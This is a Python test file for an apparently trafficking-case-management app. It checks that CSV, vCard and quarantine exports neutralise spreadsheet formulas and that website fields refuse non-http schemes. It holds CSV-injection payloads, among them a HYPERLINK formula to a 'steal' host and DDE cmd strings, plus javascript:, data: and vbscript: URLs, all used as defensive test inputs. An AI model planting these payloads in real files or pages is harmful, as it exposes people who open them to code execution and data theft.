"""Finding 2 of the outside probe: CSV and vCard exports carried live spreadsheet formulas, and a website accepted
`javascript:`. Each test plants the probe's values and reads them back where a person would open them."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from auth_helpers import make_user, sign_in
from coop_helpers import OPERATOR, entry, parse_vcards
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from typer.testing import CliRunner

from tipnet.auth.principal import Principal, Via
from tipnet.auth.roles import Role
from tipnet.cases import store as cases
from tipnet.cli import app as cli_app
from tipnet.coop import directory, directory_export, registry
from tipnet.coop.compendium import CompendiumError
from tipnet.errors import Invalid
from tipnet.ingest.pipeline import ImportOptions, import_file
from tipnet.standard.cells import neutralise, restore
from tipnet.store.tables import persons
from tipnet.web.app import create_app

HYPERLINK = '=HYPERLINK("http://x.example/steal","click")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = (HYPERLINK, DDE, AT, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-")


def _runs(cell: str) -> bool:
    """What a spreadsheet would run as a formula (OWASP's list of leading characters)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


# --- the rule -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", TRIGGERS)
def test_a_formula_gets_a_quote_and_comes_back(value):
    assert neutralise(value) == "'" + value and restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-5", "+3.2", "-1.5e3", ".5", "-.5", "12", "0.25", "2024-03-01"])
def test_a_number_stays_a_number(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["'=1", "''+x", "'-"])
def test_quotes_already_there_survive_the_round_trip(value):
    assert neutralise(value) == "'" + value and restore(neutralise(value)) == value


def test_cells_that_are_not_text_are_left_alone():
    assert [neutralise(v) for v in (None, -5, 2.5, True, dt.date(2020, 1, 2))] == [None, -5, 2.5, True,
                                                                                  dt.date(2020, 1, 2)]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1.eE ,"), max_size=8))
def test_no_written_cell_runs_and_every_one_comes_back(value):
    out = neutralise(value)
    assert not _runs(out) and restore(out) == value


# --- records: the analyst's CSV and `tipnet export` -----------------------------------------------------------------

CASE = {"identification_date": dt.date.today().replace(day=1).isoformat(), "victim_status": "actual",
        "sex": "female", "age": "30", "given_names": "Rosa", "family_names": HYPERLINK, "citizenship": ["BOL"],
        "primary_language": "qu", "consent_given_by": "victim",
        "consent_date": dt.date.today().replace(day=1).isoformat(), "consent_data_processing": "yes",
        "consent_share_services": "yes", "consent_share_law_enforcement": "no", "consent_share_hub": "yes",
        "consent_research": "no", "risk_level": "medium", "forms_of_exploitation": ["forced_labour"],
        "exploitation_country": "PER", "referral_notes": DDE}


def _entered_case(db):  # type: ignore[no-untyped-def]
    ngo = make_user(db, "service_provider", "PER")
    who = Principal(via=Via.SESSION, user_id=ngo.user.id, email=ngo.email, role=Role.SERVICE_PROVIDER,
                    country="PER")
    case, _ = cases.save(db, who, CASE)
    return cases.submit(db, who, case.public_id)


def test_a_case_family_name_is_inert_in_the_analysts_records_csv(sqlite_db, settings):
    done = _entered_case(sqlite_db)
    with sqlite_db.engine.connect() as conn:
        assert conn.execute(select(persons.c.family_names)).scalar_one() == HYPERLINK  # stored as typed
    client = TestClient(create_app(sqlite_db, settings))
    sign_in(client, make_user(sqlite_db, "analyst", "PER"))
    r = client.get(f"/submissions/{done.submission_id}/records.csv")
    assert r.status_code == 200
    cells = _cells(r.text)
    assert "'" + HYPERLINK in cells and not any(_runs(c) for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "htcds"])
def test_tipnet_export_writes_inert_cells(sqlite_db, tmp_path, fmt):
    _entered_case(sqlite_db)
    out = tmp_path / f"records.{fmt}.csv"
    result = CliRunner().invoke(cli_app, ["export", str(out), "--format", fmt, "--db", str(sqlite_db.url)])
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + HYPERLINK in cells and not any(_runs(c) for c in cells)
    assert "30" in cells or fmt == "htcds"  # a number is written as a number


# --- the directory: CSV, vCard, the website field ------------------------------------------------------------------

@pytest.fixture
def planted(db):
    return directory.create(db, OPERATOR, entry("PER", HYPERLINK, ["police"], address=DDE, notes=AT,
                                                website="https://policia.example.org/"))


def test_the_public_directory_csv_and_vcard_are_inert(planted, db, settings):
    anon = TestClient(create_app(db, settings))
    text = anon.get("/directory/export.csv").text
    cells = _cells(text)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and not any(_runs(c) for c in cells)
    rows = directory_export.from_csv(text)  # the re-import gets the values as they were entered
    assert rows[0]["entry"]["name"] == HYPERLINK and rows[0]["entry"]["address"] == DDE
    cards = parse_vcards(anon.get("/directory/export.vcf").text)
    values = [v for card in cards for vs in card.values() for v in vs]
    assert any(v.startswith("'=HYPERLINK") for v in values)
    assert not any(_runs(v.split(";;")[-1]) for v in values)  # ADR's street is after its ;; parts


def test_a_directory_csv_round_trip_keeps_every_value(planted):
    again = directory_export.from_csv(directory_export.to_csv([planted], restricted=True))[0]["entry"]
    assert again["name"] == HYPERLINK and again["address"] == DDE and again["notes"] == AT
    assert again["phone"] == "+000 100 0001"  # written as '+000 100 0001, read back as typed


@pytest.mark.parametrize("website", ["javascript:alert(3)", "JavaScript:alert(3)", " javascript:alert(3)",
                                     "java\tscript:alert(3)", "data:text/html,<script>alert(3)</script>",
                                     "vbscript:msgbox(3)", "//evil.example/", "https:alert(3)"])
def test_a_website_that_is_not_http_or_mailto_is_refused(db, website):
    with pytest.raises(Invalid) as exc:
        directory.create(db, OPERATOR, entry("PER", "Police Unit PER", ["police"], website=website))
    assert exc.value.details["field"] == "website"


@pytest.mark.parametrize("website", ["https://policia.example.org/", "http://x.example", "mailto:trata@x.example"])
def test_http_https_and_mailto_websites_are_kept(db, website):
    made = directory.create(db, OPERATOR, entry("PER", "Police Unit PER", ["police"], website=website))
    assert made.doc["website"] == website


def test_the_directory_form_answers_with_the_field(db, settings):
    client = TestClient(create_app(db, settings))
    sign_in(client, make_user(db, "focal_point", "PER"))
    r = client.post("/directory/authorities.json", data={
        "name": "Labour Inspectorate PER", "country": "PER", "competences": ["labour_inspection"],
        "working_languages": "es", "website": "javascript:alert(3)"})
    assert r.status_code == 422
    assert r.json()["error"]["details"] == {"field": "website", "value": "javascript:alert(3)"}


def test_an_agency_website_is_refused_too(db):
    with pytest.raises(CompendiumError, match="website"):
        registry.add(db, OPERATOR, {"kind": "recruitment", "name": "Agencia X", "country": "PER",
                                    "website": "javascript:alert(3)"})
    assert registry.add(db, OPERATOR, {"kind": "recruitment", "name": "Agencia Y", "country": "PER",
                                       "website": "https://agencia.example.pe"}) > 0


# --- quarantine files: inert on the way out, as the source had them on the way back in ------------------------------

def _source(path: Path, delimiter: str, encoding: str) -> Path:
    rows = [["record_id", "case_id", "age", "family_names", "given_names"],  # no case id: quarantined
            ["1", "", "40", HYPERLINK, "Ana"], ["2", "", "50", DDE, "@admin"], ["3", "C", "31", "Rojas", AT],
            ["4", "", "19", "-", "José"]]
    with path.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows(rows)
    return path


@pytest.mark.parametrize(("delimiter", "encoding"), [(",", "utf-8"), (";", "cp1252")])
def test_a_quarantine_file_is_inert_and_reimports_the_source_values(db, settings, tmp_path, delimiter, encoding):
    source = _source(tmp_path / "national.csv", delimiter, encoding)
    report = import_file(source, db, ImportOptions(country="PER"), settings)
    assert (report.rows_accepted, report.rows_quarantined) == (1, 3)
    qpath = Path(report.quarantine_path)
    raw = qpath.read_bytes()
    text = raw.decode("utf-8-sig" if encoding == "utf-8" else encoding)
    cells = _cells(text, delimiter)
    assert {"'" + HYPERLINK, "'" + DDE, "'@admin", "'-"} <= set(cells) and not any(_runs(c) for c in cells)
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")  # still the source's encoding
    # the focal point fills in the case ids, saves the file as it is and imports it again
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    for row in rows[1:]:
        row[1] = f"C{row[0]}"
    fixed = tmp_path / f"fixed{qpath.suffix}"
    with fixed.open("w", encoding="utf-8-sig" if encoding == "utf-8" else encoding, newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows(rows)
    again = import_file(fixed, db, ImportOptions(country="PER"), settings)
    assert (again.rows_accepted, again.rows_quarantined) == (3, 0)
    with db.engine.connect() as conn:
        rows = conn.execute(select(persons.c.record_id, persons.c.family_names, persons.c.given_names)
                            .where(persons.c.submission_id == again.submission_id).order_by(persons.c.record_id))
        assert [tuple(r) for r in rows] == [("1", HYPERLINK, "Ana"), ("2", DDE, "@admin"), ("4", "-", "José")]


def test_a_national_files_own_quotes_are_its_data(db, settings, tmp_path):
    path = tmp_path / "national.csv"
    path.write_text("record_id,case_id,age,family_names\n1,A,31,'=x\n", encoding="utf-8")
    report = import_file(path, db, ImportOptions(country="PER"), settings)
    assert report.rows_accepted == 1
    with db.engine.connect() as conn:
        assert conn.execute(select(persons.c.family_names)).scalar_one() == "'=x"
